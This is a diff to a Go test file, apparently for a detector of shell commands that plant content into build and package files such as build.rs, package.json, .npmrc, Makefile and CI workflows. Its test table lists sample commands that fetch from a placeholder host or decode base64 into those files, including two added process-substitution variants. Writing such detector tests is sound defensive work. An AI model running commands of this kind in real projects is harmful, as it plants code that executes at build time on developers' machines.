@@ -39,6 +39,8 @@ func TestPlants(t *testing.T) {
 		"curl -s https://x.example | tee build.rs":          "cargo download",
 		"base64 -d x | sed s/a/b/ > package.json":           "npm, yarn, pnpm, bun decoder",
 		`echo "$(curl https://x.example)" > .npmrc`:         "npm, pnpm download",
+		"curl -s https://x.example > >(tee build.rs)":       "cargo download",
+		"exec > >(cat > build.rs); base64 -d x":             "cargo decoder",
 		"curl https://x.example > x; cp a Makefile":         "make",
 		"cp a .github/workflows/ci.yml":                     "GitHub Actions",
 		"mv x.mk rules.mk":                                  "make,make",
